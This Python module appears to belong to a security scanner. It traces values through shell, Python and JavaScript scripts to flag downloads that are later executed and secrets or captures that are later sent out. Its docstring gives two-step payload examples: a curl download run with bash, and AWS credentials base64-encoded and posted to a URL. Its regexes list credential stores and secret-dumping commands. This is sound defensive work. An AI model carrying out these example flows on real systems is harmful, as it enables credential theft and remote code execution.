"""Source → sink across lines: a download that is later executed, a secret that is later sent.

Single-line rules miss the two-step versions of the commonest payloads::

    curl -sLO https://host.example/patch1       data = open(expanduser("~/.aws/credentials")).read()
    bash patch1                                 body = {"c": base64.b64encode(data.encode())}
                                                requests.post(URL, json=body)

This module follows values through one script (shell, Python, JavaScript; shipped files and
code blocks alike): what a download writes (a file name, a variable), what a sensitive read or
capture yields, and what is derived from either by assignment (f-strings, concatenation,
encoding, containers, command substitution). A *sink* that consumes such a value — executing
it, evaluating it, sending it over the network — is a flow. The analysis is line-based and
deliberately simple: no control flow, no functions, names only; it over-approximates a little
(a name reassigned later stays tainted) and stays linear in the size of the text.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache

from grading.tier1.literals import gated

DOWNLOAD = "download"
SECRET = "secret"
ENV_SECRET = "env-secret"
CAPTURE = "capture"

_SENSITIVE_PATH = (
    r"(?:\.ssh\b|id_rsa|id_ed25519|id_ecdsa|\.aws\b|\.azure/|\.kube/config|\.config/gcloud"
    r"|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.docker/config\.json|\.env\b|/etc/shadow"
    r"|Login Data|Cookies|key4\.db|logins\.json|wallet\.dat|\.bash_history|\.zsh_history"
    r"|Keychains?/|credentials\.json|token\.json|\.clawdbot|\.openclaw|\.claude/)"
)

# Shell: what produces a tainted value (a variable via command substitution, or a file).
# The expressions searched in every line of a script are gated (see ``literals.gated``).
_SH_ASSIGN = re.compile(
    r"^[ \t]{0,40}(?:export\s+|local\s+|readonly\s+)?([A-Za-z_]\w{0,60})=(.{0,600})$"
)
_SH_DOWNLOAD_CMD = gated(
    re.compile(r"\b(?:curl|wget|iwr|invoke-webrequest|invoke-restmethod)\b", re.I)
)
_SH_SECRET_CMD = gated(
    re.compile(
        r"\b(?:cat|head|tail|base64|xxd|tar|zip|gzip|openssl|cp|rsync|scp)\b[^\n|;]{0,200}"
        + _SENSITIVE_PATH
        + r"|\$\(\s*(?:env|printenv|set)\s*\)|`\s*(?:env|printenv)\s*`"
        + r"|\bsecurity\s+(?:find-generic-password|find-internet-password|dump-keychain)\b",
        re.I,
    )
)
_SH_CAPTURE_CMD = gated(
    re.compile(
        r"\b(?:pbpaste|xclip\s+-o|xsel\s+-o|wl-paste|screencapture|scrot|gnome-screenshot|import\s+-window"
        r"|ipconfig\s+getifaddr|curl\s[^\n]{0,80}(?:ipinfo\.io|ipapi\.co|ip-api\.com|ifconfig\.me"
        r"|icanhazip\.com|api\.ipify\.org))",
        re.I,
    )
)
_SH_OUTPUT_FILE = gated(
    re.compile(
        r"\b(?:curl\b[^\n|;]{0,300}?(?:\s-o\s*|\s--output[\s=])|wget\b[^\n|;]{0,300}?(?:\s-O\s*|\s--output-document[\s=])"
        r"|invoke-webrequest\b[^\n|;]{0,300}?-outfile\s+)[\"']?([^\s\"';|&)]{1,200})",
        re.I,
    )
)
_SH_REMOTE_NAME = gated(
    re.compile(
        r"\b(?:curl\b[^\n|;]{0,200}?\s-[a-zA-Z]{0,6}O[a-zA-Z]{0,6}\b[^\n|;]{0,200}?|wget\b(?![^\n|;]{0,200}?\s-O\b)[^\n|;]{0,200}?)"
        r"https?://[^\s\"'|;]{1,300}?/([\w.+-]{1,120})(?=[\s\"'|;)]|$)",
        re.I,
    )
)
_SH_EXEC_FILE = (
    r"(?:^|[;&|(`]\s{0,4}|\$\(\s{0,4}|\bsudo\s+)(?:(?:ba|z|da|k)?sh|source|\.|python[0-9.]{0,4}"
    r"|node|perl|ruby|php|chmod\s+(?:\+x|[0-7]{3,4}|u\+x|a\+x))\s+(?:-\w+\s+){0,3}[\"']?(?:\./)?NAME\b"
    r"|(?:^|[;&|(`]\s{0,4})[\"']?\./NAME\b"
)
_SH_EXEC_VALUE = (
    r"\b(?:eval|(?:ba|z)?sh\s+-c|source\s+<\()\s*[\"']?\$\{?NAME\b"
    r"|\$\{?NAME\}?[\"']?\s*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b"
)
_SH_SEND_VALUE = (
    r"\b(?:curl|wget|nc|ncat|invoke-webrequest|invoke-restmethod)\b[^\n]{0,300}?\$\{?NAME\b"
    r"|\$\{?NAME\}?[^\n]{0,40}\|\s*(?:nc|ncat|curl)\b"
)
_EXCLUDED = re.compile(r"--exclude(?:-from)?[=\s]+\S+", re.IGNORECASE)
"""Paths a command leaves out (``tar --exclude='.env'``) are not read."""
_SH_UPLOAD = gated(
    re.compile(
        r"\bcurl\b[^\n]{0,300}?(?:-F\s*[\"']?[\w\[\].-]{1,40}=@|--form\s*[\"']?[\w\[\].-]{1,40}=@"
        r"|--data(?:-binary)?\s*[\"']?@|-d\s*[\"']?@|-T\s|--upload-file\s)|\bwget\b[^\n]{0,300}--post-file"
        r"|\b(?:scp|rsync)\b[^\n]{0,200}\s[\w.-]{1,60}@[\w.-]{1,200}:",
        re.IGNORECASE,
    )
)
"""A command uploading a local file: after a secret store was read or copied, the upload is the
flow even when the file's name cannot be followed (archives named by date, temp folders)."""
_SH_SEND_FILE = (
    r"\bcurl\b[^\n]{0,300}?(?:-F\s*[\"']?[\w\[\].-]{1,40}=@|--data(?:-binary)?\s*[\"']?@"
    r"|-d\s*[\"']?@|-T\s+|--upload-file\s+)[\"']?[^\s\"']{0,120}NAME\b"
    r"|\b(?:nc|ncat)\b[^\n]{0,120}<\s*[\"']?[^\s\"']{0,120}NAME\b"
)

# Python and JavaScript: assignments, sources and sinks.
_ASSIGN = re.compile(
    r"^[ \t]{0,40}(?:(?:const|let|var)\s+)?([A-Za-z_$][\w$]{0,60})"
    r"\s*(?::\s*[\w\[\], .|]{1,60})?(?<![=!<>+\-*/%&|^])=(?!=)\s*(.{1,600})$"
)
_PY_SECRET = gated(
    re.compile(
        r"\b(?:open|read_text|read_bytes|readFileSync|readFile|Path)\s*\([^\n]{0,200}"
        + _SENSITIVE_PATH
        + r"|(?<![\w.])(?:dict|json\.dumps|str|repr)\s*\(\s*os\.environ\b"
        + r"|\bos\.environ\.copy\s*\(|\{\s*\*\*os\.environ\b"
        + r"|JSON\.stringify\s*\(\s*process\.env\b|\{\s*\.\.\.process\.env\b"
        + r"|\bcheck_output\s*\(\s*\[?\s*[\"'](?:env|printenv)[\"']"
        + r"|\bkeyring\.get_password\s*\(",
    )
)
_ENV_SECRET = gated(
    re.compile(
        r"(?:\bos\.(?:getenv|environ\.get)\s*\(\s*|\bos\.environ\s*\[\s*|\bprocess\.env\.|\bprocess\.env\[\s*)"
        r"[\"']?[A-Z0-9_]{0,40}(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)\b"
    )
)
"""One secret-looking environment variable: used as its service's authentication it is fine;
put into a request *body* it is sent as data."""
_AUTH_ARGUMENTS = gated(
    re.compile(
        r"\b(?:headers|auth)\s*[=:]\s*(?:\{[^{}\n]{0,400}\}|\([^()\n]{0,200}\)|[\w.]{1,60})"
        r"|[\"'](?:Authorization|X-Api-Key|api-key|x-goog-api-key)[\"']\s*:\s*[^,}\n]{1,200}",
        re.IGNORECASE,
    )
)
"""Where a credential belongs in a request: stripped before a sink is matched."""
_PY_CAPTURE = gated(
    re.compile(
        r"\b(?:pyperclip\.paste|clipboard\.paste|ImageGrab\.grab|pyautogui\.screenshot|mss\(\)|screenshot\s*\("
        r"|CLLocationManager|navigator\.geolocation|navigator\.clipboard\.readText"
        r"|(?:ipinfo\.io|ipapi\.co|ip-api\.com|ifconfig\.me|api\.ipify\.org))",
    )
)
_PY_DOWNLOAD = gated(
    re.compile(
        r"\b(?:requests|httpx|session)\.get\s*\(|\burlopen\s*\(|\burllib\.request\.urlopen\s*\(|\bfetch\s*\(|\baxios\.get\s*\(",
    )
)
_PY_EXEC = (
    r"\b(?:exec|eval|compile|Function|execSync|spawn|system|popen|Popen|check_output"
    r"|check_call|run|call)\s*\((?:[^()\n]|\([^()\n]{0,200}\)){0,200}?\bNAME\b"
)
_PY_SEND = (
    r"\b(?:requests|httpx|session|client|axios)\.(?:post|put|patch)\s*\([^\n]{0,400}?\bNAME\b"
    r"|\b(?:urlopen|Request)\s*\([^\n]{0,300}?\bdata\s*=\s*[^\n]{0,200}?\bNAME\b"
    r"|\.send(?:all|to)?\s*\([^\n]{0,200}?\bNAME\b|\bsendmail\s*\([^\n]{0,300}?\bNAME\b"
    r"|\bbody\s*:\s*[^\n]{0,200}?\bNAME\b"
)
_PY_SEND_KEYWORDS = gated(  # searched through every script: see literals.gated
    re.compile(r"\.(?:post|put|patch|send|sendall|sendto)\s*\(|urlopen|sendmail|\bbody\s*:")
)
_PY_SEND_WORDS = (".post", ".put", ".patch", ".send", "urlopen", "sendmail", "body")
"""One of which every match of _PY_SEND_KEYWORDS (case-sensitive) holds: substring tests that
spare most scripts the expression's search."""

MAX_TAINTED = 64
MAX_CONTINUATIONS = 50
MAX_LINES = 20_000


@dataclass(frozen=True)
class Flow:
    """A value from ``source`` (kind and line offset) reaching a sink at ``offset``."""

    kind: str  # "download-execute", "secret-send", "env-secret-send", "capture-send"
    offset: int
    source_line: int
    detail: str


Regions = tuple[tuple[int, int], ...]


def flows(text: str, language: str, regions: Regions = ()) -> Iterator[Flow]:
    """The source → sink flows in one script's text (``shell``, ``python`` or ``javascript``),
    read in ``regions`` only (the code blocks of a Markdown view; the whole text by default),
    one region after the other: steps of one procedure may sit in separate code blocks."""
    regions = regions or ((0, len(text)),)
    if language == "shell":
        yield from _shell_flows(text, regions)
    elif language in ("python", "javascript"):
        yield from _code_flows(text, regions)


_CONTINUED = re.compile(r"\\[^\S\n]*(?:\n|\Z)")
"""A line ending with a backslash (trailing spaces aside): it continues on the next line."""


def _lines(text: str, regions: Regions) -> Iterator[tuple[int, int, str]]:
    """(line number, offset, line) for the non-blank lines of ``regions``, bounded; a line
    continued with a trailing backslash is joined to the next ones (a multi-line shell command
    is one line). Line numbers count from 1 across the regions."""
    number = 0
    for start, end in regions:
        chunk = text[start:end]
        if not _CONTINUED.search(chunk):  # the common case: every line stands alone
            offset = start
            for line in chunk.split("\n"):
                number += 1
                if number > MAX_LINES:
                    return
                if line.strip():
                    yield number, offset, line
                offset += len(line) + 1
            continue
        offset = start
        parts: list[str] = []
        first_number = first_offset = 0
        for line in chunk.split("\n"):
            number += 1
            if number > MAX_LINES:
                return
            if not parts:
                first_number, first_offset = number, offset
            offset += len(line) + 1
            if line.rstrip().endswith("\\") and len(parts) < MAX_CONTINUATIONS:
                parts.append(line.rstrip()[:-1])
                continue
            parts.append(line)
            joined = " ".join(parts)
            parts = []
            if joined.strip():
                yield first_number, first_offset, joined


def _shell_flows(text: str, regions: Regions) -> Iterator[Flow]:
    lowered = "".join(text[start:end] for start, end in regions).lower()
    if not any(
        word in lowered
        for word in (
            "curl",
            "wget",
            "invoke-",
            "cat ",
            "env",
            "pbpaste",
            "screencapture",
            "xclip",
            "security ",
        )
    ):
        return
    tainted: dict[str, tuple[str, int]] = {}  # variable or file name → (kind, position)
    files: dict[str, tuple[str, int]] = {}
    secret_read = 0  # position of the first read or copy of a secret store
    for position, offset, line in _commands(_lines(text, regions)):
        if line.lstrip().startswith("#"):
            continue
        if secret_read and secret_read != position and _SH_UPLOAD.search(line):
            read = secret_read // _STEPS
            yield Flow("secret-send", offset, read, _detail("a file", SECRET, read))
            secret_read = 0
        if not secret_read and _SH_SECRET_CMD.search(_EXCLUDED.sub("", line)):
            secret_read = position
        for table, is_file in ((tainted, False), (files, True)):
            for name, (kind, source) in list(table.items()):
                if name not in line or source == position:
                    continue
                origin = source // _STEPS
                if kind == DOWNLOAD:
                    sink = _sink(_SH_EXEC_FILE if is_file else _SH_EXEC_VALUE, name)
                    if sink.search(line):
                        yield Flow("download-execute", offset, origin, _detail(name, kind, origin))
                elif _sink(_SH_SEND_FILE if is_file else _SH_SEND_VALUE, name).search(line):
                    yield Flow(f"{kind}-send", offset, origin, _detail(name, kind, origin))
        for match in _SH_OUTPUT_FILE.finditer(line):
            _remember(files, match.group(1).rsplit("/", 1)[-1], DOWNLOAD, position)
        for match in _SH_REMOTE_NAME.finditer(line):
            _remember(files, match.group(1), DOWNLOAD, position)
        assignment = _SH_ASSIGN.match(line)
        if assignment:
            name, value = assignment.group(1), assignment.group(2)
            assigned = _shell_source(_EXCLUDED.sub("", value), tainted)
            if assigned:
                _remember(tainted, name, assigned, position)
        redirect = re.search(r"(?:>|\btee\s+(?:-a\s+)?)\s*[\"']?([^\s\"';|&]{1,200})\s*$", line)
        if redirect:
            written = _shell_source(line[: redirect.start()], tainted)
            if written:
                _remember(files, redirect.group(1).rsplit("/", 1)[-1], written, position)


_CHAIN = re.compile(r"\s(?:&&|\|\||;)\s")


_STEPS = 100


def _commands(lines: Iterator[tuple[int, int, str]]) -> Iterator[tuple[int, int, str]]:
    """Shell lines split into their chained commands (``a && b; c``), each with a position
    ``line × _STEPS + step``: a download and its execution on one line are two steps."""
    for number, offset, line in lines:
        for step, command in enumerate(_CHAIN.split(line)[:_STEPS]):
            yield number * _STEPS + step, offset, command


def _shell_source(value: str, tainted: dict[str, tuple[str, int]]) -> str | None:
    if _SH_DOWNLOAD_CMD.search(value) and (
        "$(" in value or "`" in value or value.lstrip().startswith(("curl", "wget"))
    ):
        return DOWNLOAD
    if _SH_SECRET_CMD.search(value):
        return SECRET
    if _SH_CAPTURE_CMD.search(value):
        return CAPTURE
    for name, (kind, _) in tainted.items():
        if name in value and re.search(r"\$\{?" + re.escape(name) + r"\b", value):
            return kind
    return None


def _code_flows(text: str, regions: Regions) -> Iterator[Flow]:
    if not (  # the substring tests first: each is far cheaper than the expression
        "exec" in text
        or "eval" in text
        or "Function" in text
        or (any(word in text for word in _PY_SEND_WORDS) and _PY_SEND_KEYWORDS.search(text))
    ):
        return
    tainted: dict[str, tuple[str, int]] = {}
    for number, offset, line in _lines(text, regions):
        if not tainted and "=" not in line:
            continue  # nothing to sink, nothing assigned
        stripped = line.lstrip()
        if stripped.startswith(("#", "//", "*")):
            continue
        for name, (kind, source) in list(tainted.items()):
            if name not in line or source == number:
                continue
            if kind == DOWNLOAD:
                if _sink(_PY_EXEC, name).search(line):
                    yield Flow("download-execute", offset, source, _detail(name, kind, source))
            elif kind == ENV_SECRET:
                if _sink(_PY_SEND, name).search(_AUTH_ARGUMENTS.sub("", line)):
                    yield Flow("env-secret-send", offset, source, _detail(name, kind, source))
            elif _sink(_PY_SEND, name).search(line):
                yield Flow(f"{kind}-send", offset, source, _detail(name, kind, source))
        assignment = _ASSIGN.match(line) if "=" in line else None  # no "=": no assignment
        if assignment:
            name, value = assignment.group(1), assignment.group(2)
            assigned = _code_source(value, tainted)
            if assigned:
                _remember(tainted, name, assigned, number)
            elif name in tainted and not any(
                re.search(rf"\b{re.escape(n)}\b", value) for n in tainted
            ):
                del tainted[name]


def _code_source(value: str, tainted: dict[str, tuple[str, int]]) -> str | None:
    if _PY_SECRET.search(value):
        return SECRET
    if _PY_CAPTURE.search(value):
        return CAPTURE
    if _PY_DOWNLOAD.search(value):
        return DOWNLOAD
    if _ENV_SECRET.search(value):
        return ENV_SECRET
    for name, (kind, _) in tainted.items():
        if name in value and re.search(rf"\b{re.escape(name)}\b", value):
            return kind
    return None


@lru_cache(maxsize=1024)
def _sink(template: str, name: str) -> re.Pattern[str]:
    """The sink pattern ``template`` for one tainted name (compiled once per name)."""
    return re.compile(template.replace("NAME", re.escape(name)), re.IGNORECASE)


def _detail(name: str, kind: str, source: int) -> str:
    verb = {
        DOWNLOAD: "downloaded",
        SECRET: "read from a secret store",
        ENV_SECRET: "read from a secret environment variable",
        CAPTURE: "captured",
    }[kind]
    return f"{name}, {verb} on line {source}"


def _remember(table: dict[str, tuple[str, int]], name: str, kind: str, line: int) -> None:
    if name and len(table) < MAX_TAINTED:
        table.setdefault(name, (kind, line))
